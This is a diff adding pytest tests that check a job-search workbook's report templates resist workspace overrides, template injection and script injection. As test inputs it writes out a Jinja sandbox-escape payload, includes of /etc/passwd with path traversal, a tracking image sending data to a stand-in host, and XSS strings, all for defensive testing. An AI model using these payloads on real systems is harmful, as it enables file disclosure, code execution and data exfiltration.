@@ -2,12 +2,17 @@
 
 from __future__ import annotations
 
+import datetime as dt
+
 import pytest
 
-from helpers import drafts, research, templating
+from helpers import drafts, report, research, templating
 from helpers.errors import WorkspaceError
+from helpers.profile import load_profile
+from helpers.proof_of_search import export_proof_of_search
 
 NORTHWIND = "northwind-analytics-data-analyst"
+TODAY = dt.date(2026, 11, 25)
 
 HOSTILE = [
     "{{ ''.__class__.__mro__[1].__subclasses__() }}",
@@ -94,3 +99,71 @@ def test_a_source_is_a_link_only_when_it_is_a_plain_web_address():
     assert templating.md_source(" https://example.com/a ") == "<https://example.com/a>"
     assert templating.md_source("https://example.com/<x>") != "<https://example.com/<x>>"
     assert templating.md_source("a friend") == "a friend"
+
+
+REPORT_OVERRIDE = """<html><body>OVERRIDDEN
+{{ ''.__class__.__mro__[1].__subclasses__() }}
+{% include '/etc/passwd' %}{% include '../../../../etc/passwd' %}
+<img src="https://tracker.example/?{{ who }}"></body></html>"""
+
+
+@pytest.mark.parametrize("name", ["report.html.j2", "report_summary.html.j2"])
+def test_a_workspace_copy_of_the_report_is_never_used(example_ws, name):
+    """The report goes to a coach, redacted, under a policy forbidding scripts and
+    fetches: its templates are the workbook's own, whatever the workspace holds."""
+    _workspace_template(example_ws, name, REPORT_OVERRIDE)
+    page = report.build_report(example_ws, TODAY)
+    assert "OVERRIDDEN" not in page and "tracker.example" not in page
+    assert "subclasses" not in page and "root:" not in page
+    assert "Content-Security-Policy" in page and "<h2>Summary</h2>" in page
+    assert templating.template(example_ws.root, name).filename == str(
+        templating.TEMPLATES_DIR / name
+    )
+    workspace_loader = templating.environment(example_ws.root).loader.loaders[0]
+    assert name not in workspace_loader.list_templates()
+
+
+def test_a_workspace_html_template_of_any_name_is_not_found(example_ws):
+    _workspace_template(example_ws, "mine.html.j2", REPORT_OVERRIDE)
+    with pytest.raises(WorkspaceError, match="not a template"):
+        templating.render(
+            templating.template(example_ws.root, "thank_you.md.j2").environment.from_string(
+                "{% include 'mine.html.j2' %}"
+            )
+        )
+
+
+@pytest.mark.parametrize("body", HOSTILE)
+def test_html_templates_are_sandboxed_too(body):
+    env = templating.shipped("report.html.j2").environment
+    with pytest.raises(WorkspaceError, match="not allowed in a template"):
+        templating.render(env.from_string(body, globals={"app": {}}))
+
+
+def test_html_templates_escape_every_value_and_text_templates_do_not():
+    page = templating.render(templating.shipped("report_summary.html.j2"), **SUMMARY)
+    assert "<script>" not in page and "&lt;script&gt;" in page
+    assert '<li class="flag">&lt;img src=x onerror=&#34;x&#34;&gt;</li>' in page
+    env = templating.shipped("report.html.j2").environment
+    assert env.from_string("{{ x }}").render(x="<b>") == "<b>"  # drafts, notes: plain text
+
+
+SUMMARY = {
+    "standing": "<script>alert(1)</script>",
+    "message": "",
+    "week": "w",
+    "since": None,
+    "changes": None,
+    "actions": [],
+    "flags": ['<img src=x onerror="x">'],
+    "funnel": "",
+}
+
+
+def test_a_workspace_copy_of_the_proof_of_search_is_never_used(example_ws):
+    _workspace_template(example_ws, "proof_of_search.html.j2", REPORT_OVERRIDE)
+    tables = example_ws.load_all()
+    html_file = export_proof_of_search(example_ws, tables, load_profile(example_ws), TODAY)[1]
+    page = html_file.read_text(encoding="utf-8")
+    assert "OVERRIDDEN" not in page and "tracker.example" not in page
+    assert "<h1>Proof of job search</h1>" in page and "<th>Stage history</th>" in page
